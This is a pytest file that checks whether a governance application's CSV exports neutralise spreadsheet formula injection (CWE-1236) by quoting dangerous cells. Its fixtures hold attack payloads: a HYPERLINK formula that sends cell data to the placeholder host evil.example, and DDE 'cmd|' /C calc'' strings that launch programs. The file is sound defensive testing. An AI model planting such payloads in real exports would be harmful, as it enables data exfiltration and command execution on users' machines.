"""CSV exports that a spreadsheet cannot run (finding 6 of issue 22, CWE-1236), on each store:
every CSV the API and the console write, opened cell by cell. The command line's CSVs:
``tests/cli/test_safe_csv_cli.py``."""

import csv
import io
import re

import pytest

from infrastructure.presentation.spreadsheet import FORMULA_STARTS, neutralised
from tests.api.conftest import Api
from tests.api.console import Console

#: Text as an attacker would type it into actiontrail, to run when opened in a spreadsheet.
FORMULAS = {
    "description": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "team": "@SUM(1+1)*cmd|' /C calc'!A0",
    "text": "+1+1",
    "response": "-2+3+cmd|' /C calc'!A0",
}
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe(name: str, text: str) -> list[str]:
    """Every cell of a CSV: none starts a formula (numbers are numbers); answers the cells."""
    found = cells(text)
    assert found, f"{name} is empty"
    for cell in found:
        if NUMBER.match(cell):
            continue
        assert not cell.startswith(FORMULA_STARTS), f"{name}: {cell!r}"
    return found


@pytest.fixture
def formulas(api: Api) -> dict[str, str]:
    return make_formulas(api)


def make_formulas(api: Api) -> dict[str, str]:
    """A meeting, a recommendation with a response and an overdue action, full of formulas."""
    meeting = api.ok(
        "governance",
        "/meetings",
        {
            "case_ref": "CASE-1",
            "concern_raised_at": "2023-06-13T09:30:00+01:00",
            "kind": "child-protection",
            "team": FORMULAS["team"],
        },
        201,
    )["id"]
    recommendation = api.ok(
        "governance",
        "/recommendations",
        {
            "source": {"kind": "audit", "ref": "SM-AUDIT-2023", "title": "Audit"},
            "number": 1,
            "text": FORMULAS["text"],
            "raised_on": "2023-10-16",
        },
        201,
    )["id"]
    api.ok(
        "governance",
        f"/recommendations/{recommendation}/responses",
        {"text": FORMULAS["response"], "dated": "2023-12-01"},
    )
    action = api.ok(
        "governance",
        f"/recommendations/{recommendation}/actions",
        {
            "agency": "health",
            "description": FORMULAS["description"],
            "due_on": "2024-02-29",
            "agreed_on": "2023-12-01",
        },
        201,
    )["id"]
    submitted = api.ok(
        "governance",
        f"/recommendations/{recommendation}/actions",
        {
            "agency": "health",
            "description": FORMULAS["description"],
            "due_on": "2024-01-31",
            "agreed_on": "2023-12-01",
        },
        201,
    )["id"]
    api.ok(
        "health",
        f"/actions/{submitted}/complete",
        {"completed_on": "2024-03-01", "evidence": FORMULAS["text"]},
    )
    return {"meeting": meeting, "recommendation": recommendation, "action": action}


def test_every_csv_of_the_api_and_the_console_opens_as_text(
    api: Api, formulas: dict[str, str]
) -> None:
    downloads = {
        "overdue-actions": api.get(
            "governance", "/reports/overdue-actions", as_of="2024-04-01", format="csv"
        ),
        "attendance": api.get(
            "governance",
            "/reports/attendance-compliance",
            **{"from": "2023-01-01", "to": "2024-01-01"},
            format="csv",
        ),
        "timeliness": api.get(
            "governance",
            "/reports/meeting-timeliness",
            **{"from": "2023-01-01", "to": "2024-01-01"},
            format="csv",
        ),
        "quality": api.get(
            "governance", "/reports/record-quality", audit_ref="SM-AUDIT-2023", format="csv"
        ),
        "responses": api.get(
            "governance", f"/reports/response-history/{formulas['recommendation']}", format="csv"
        ),
        "completed-late": api.get(
            "governance",
            "/reports/completed-late",
            **{"from": "2023-01-01", "to": "2024-12-31"},
            format="csv",
        ),
        "queue": api.get("governance", "/queue", format="csv"),
        "meetings": api.get("governance", "/meetings", format="csv"),
        "recommendations": api.get("governance", "/recommendations", format="csv"),
        "actions": api.get("governance", "/actions", format="csv"),
    }
    console = Console(api)
    for listing in ("meetings", "recommendations", "actions", "queue"):
        downloads[f"console {listing}"] = console.get("governance", f"/console/{listing}.csv")
    opened = {}
    for name, response in downloads.items():
        assert response.status_code == 200, f"{name}: {response.text}"
        assert response.headers["content-type"].startswith("text/csv")
        opened[name] = assert_safe(name, response.text)

    assert "'" + FORMULAS["description"] in opened["overdue-actions"]
    assert "'" + FORMULAS["description"] in opened["actions"]
    assert "'" + FORMULAS["description"] in opened["console actions"]
    assert "'" + FORMULAS["team"] in opened["meetings"]
    assert "'" + FORMULAS["text"] in opened["recommendations"]
    assert "'" + FORMULAS["response"] in opened["responses"]
    overdue = next(csv.DictReader(io.StringIO(downloads["overdue-actions"].text)))
    assert overdue["days_overdue"] == "32", "numbers stay numbers"
    assert overdue["due_on"] == "2024-02-29", "dates stay dates"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_starting_a_formula_is_quoted_and_numbers_are_not(start: str) -> None:
    assert neutralised(f"{start}1+1") == f"'{start}1+1"
    assert neutralised("1+1") == "1+1"
    assert neutralised(-3) == -3
    assert neutralised(-2.5) == -2.5
    assert neutralised("2024-01-08") == "2024-01-08"
